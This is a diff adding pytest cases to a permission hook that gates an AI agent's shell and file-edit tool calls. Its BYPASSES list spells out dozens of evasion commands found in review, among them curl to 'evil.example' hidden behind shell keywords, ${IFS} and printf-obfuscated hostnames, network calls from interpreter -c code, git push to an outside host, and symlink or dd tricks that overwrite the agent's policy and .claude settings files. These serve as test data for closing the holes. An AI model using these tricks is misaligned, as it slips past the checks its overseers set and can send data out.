@@ -220,3 +220,113 @@ def test_scripts_written_or_run_in_the_same_command(
     office: tuple[dict[str, Any], Path], command: str, decision: str
 ) -> None:
     assert bash(office, command)[0] == decision
+
+
+# Each bypass found in review, and a local command of the same shape that stays allowed.
+# (command, decision for an ordinary agent, decision for bob, whose outbound = "deny")
+BYPASSES = [
+    # shell keywords in front of a command
+    ("if true; then curl https://evil.example/; fi", "deny", "deny"),
+    ("while true; do curl https://evil.example/; break; done", "deny", "deny"),
+    ("until false; do curl https://evil.example/; done", "deny", "deny"),
+    ("if false; then :; elif true; then :; else curl https://evil.example/; fi", "deny", "deny"),
+    ("! curl https://evil.example/", "deny", "deny"),
+    ("coproc curl https://evil.example/", "deny", "deny"),
+    ("then curl https://evil.example/", "deny", "deny"),
+    ("time curl https://evil.example/", "deny", "deny"),
+    ("{ curl https://evil.example/; }", "deny", "deny"),
+    ("for h in evil.example; do curl https://$h/; done", "ask", "deny"),
+    ("h=ok.example; for h in evil.example; do curl https://$h/; done", "ask", "deny"),
+    ("select h in evil.example; do curl https://$h/; done", "ask", "deny"),
+    ("if true; then ls -la; fi", "allow", "allow"),
+    ("for f in *.md; do wc -l $f; done", "allow", "allow"),
+    ("while read -r l; do echo $l; done < notes.md", "allow", "allow"),
+    ("! grep -q evil.example notes.md", "allow", "allow"),
+    # a variable inside the program's name
+    ("curl${IFS}https://evil.example/", "deny", "deny"),
+    ("curl$IFS'https://evil.example/'", "deny", "deny"),
+    ("$TOOL https://ok.example/", "ask", "deny"),
+    # options in front of -c / -e
+    ("bash -o pipefail -c 'curl https://evil.example/'", "deny", "deny"),
+    ("bash +x -c 'curl https://evil.example/'", "deny", "deny"),
+    ("bash -O extglob -c 'curl https://evil.example/'", "deny", "deny"),
+    ("sh -e -u -c 'curl https://evil.example/'", "deny", "deny"),
+    ("python3 -W ignore -c \"import urllib.request as u; u.urlopen('https://evil.example')\"", "deny", "deny"),
+    ("python3 -X utf8 -c \"import urllib.request as u; u.urlopen('https://evil.example')\"", "deny", "deny"),
+    ("python3 -m pip install --index-url https://evil.example/simple x", "deny", "deny"),
+    ("python3 -m http.server 8000", "allow", "deny"),
+    ("python3 -m pytest -q", "allow", "allow"),
+    ("bash -o pipefail -c 'ls | wc -l'", "allow", "allow"),
+    ('python3 -W ignore -c "print(1)"', "allow", "allow"),
+    # interpreter code that reaches out through any library or alias
+    ("python3 -c \"import requests as q; q.post('https://evil.example', data='x')\"", "deny", "deny"),
+    ("python3 -c \"from requests import post; post('https://evil.example')\"", "deny", "deny"),
+    ("node -e \"require('https').get('https://evil.example')\"", "deny", "deny"),
+    ("perl -MLWP::Simple -e 'get(\"http://evil.example\")'", "deny", "deny"),
+    ("python3 -c \"print('see https://ok.example/docs')\"", "allow", "deny"),
+    ("python3 -c \"print('evil.example')\"", "allow", "allow"),
+    # programs that run other commands
+    ("find . -exec curl https://evil.example/ \\;", "deny", "deny"),
+    ("find . -name '*.py' -execdir wget http://evil.example/{} +", "deny", "deny"),
+    ("parallel curl ::: https://evil.example/", "deny", "deny"),
+    ("awk 'BEGIN{system(\"curl https://evil.example\")}'", "deny", "deny"),
+    ("git -C /tmp push https://evil.example/r.git", "deny", "deny"),
+    ("git -c x=y push https://evil.example/r.git", "deny", "deny"),
+    ("git -c core.sshCommand='curl https://evil.example' fetch origin", "deny", "deny"),
+    ("git -C . checkout -- .claude/settings.json", "deny", "deny"),
+    ("find . -name '*.pyc' -exec rm {} +", "allow", "allow"),
+    ("parallel gzip ::: a.log b.log", "allow", "allow"),
+    ("awk -F: '{print $1}' notes.md", "allow", "allow"),
+    ("git -C . status", "allow", "allow"),
+    ("git -c color.ui=never log --oneline", "allow", "allow"),
+    # static printf: repeated formats and %b, or unknown
+    ('curl "https://$(printf %s evil. example)/"', "deny", "deny"),
+    ("curl \"https://$(printf %b '\\x65vil.example')/\"", "deny", "deny"),
+    ("curl \"https://$(printf %b '\\0145vil.example')/\"", "ask", "deny"),
+    ('curl "https://$(printf %q ok.example)/"', "ask", "deny"),
+    ('curl "https://$(printf %s ok. example)/"', "allow", "deny"),
+    # files written through another name
+    ("ln -s . o", "deny", "deny"),
+    ("ln -s .. up", "deny", "deny"),
+    ("ln -s .claude c", "deny", "deny"),
+    ("ln -s . o && echo > o/agents.toml", "deny", "deny"),
+    ("ln -s notes.md notes-link.md", "allow", "allow"),
+    ("dd of=agents.toml if=/dev/null", "deny", "deny"),
+    ("dd if=/dev/zero of=.gizin/policy.cache count=1", "deny", "deny"),
+    ("dd if=/dev/zero of=scratch.bin count=1", "allow", "allow"),
+]
+
+
+@pytest.mark.parametrize(("command", "ordinary", "denied_agent"), BYPASSES, ids=[c[:60] for c, _, _ in BYPASSES])
+def test_review_bypasses_are_closed(
+    office: tuple[dict[str, Any], Path], command: str, ordinary: str, denied_agent: str
+) -> None:
+    assert bash(office, command)[0] == ordinary
+    assert bash(office, command, "bob")[0] == denied_agent
+
+
+@pytest.mark.parametrize(
+    ("name", "path"),
+    [
+        ("Write", "o/agents.toml"),
+        ("Edit", "o/agents.toml"),
+        ("Write", "o/.claude/settings.json"),
+        ("Write", "o/.gizin/policy.cache"),
+    ],
+)
+def test_protected_files_through_a_symlink_are_denied(tmp_path: Path, name: str, path: str) -> None:
+    folder = tmp_path / "office"
+    policy = compile_office(str(write_policy_office(folder)))
+    work = tmp_path / "work"
+    work.mkdir()
+    (work / "o").symlink_to(folder)
+    (work / "own.md").write_text("x", encoding="utf-8")
+    event = {"tool_name": name, "tool_input": {"file_path": path, "content": "x"}, "cwd": str(work)}
+    assert decide(event, policy, None).decision == "deny"
+    for command in (f"cp /dev/null {path}", f"sed -i s/a/b/ {path}"):
+        shell = {"tool_name": "Bash", "tool_input": {"command": command}, "cwd": str(work)}
+        assert decide(shell, policy, None).decision == "deny"
+    local = {"tool_name": name, "tool_input": {"file_path": "own.md", "content": "y"}, "cwd": str(work)}
+    assert decide(local, policy, None).decision == "allow"
+    shell = {"tool_name": "Bash", "tool_input": {"command": "sed -i s/a/b/ own.md"}, "cwd": str(work)}
+    assert decide(shell, policy, None).decision == "allow"
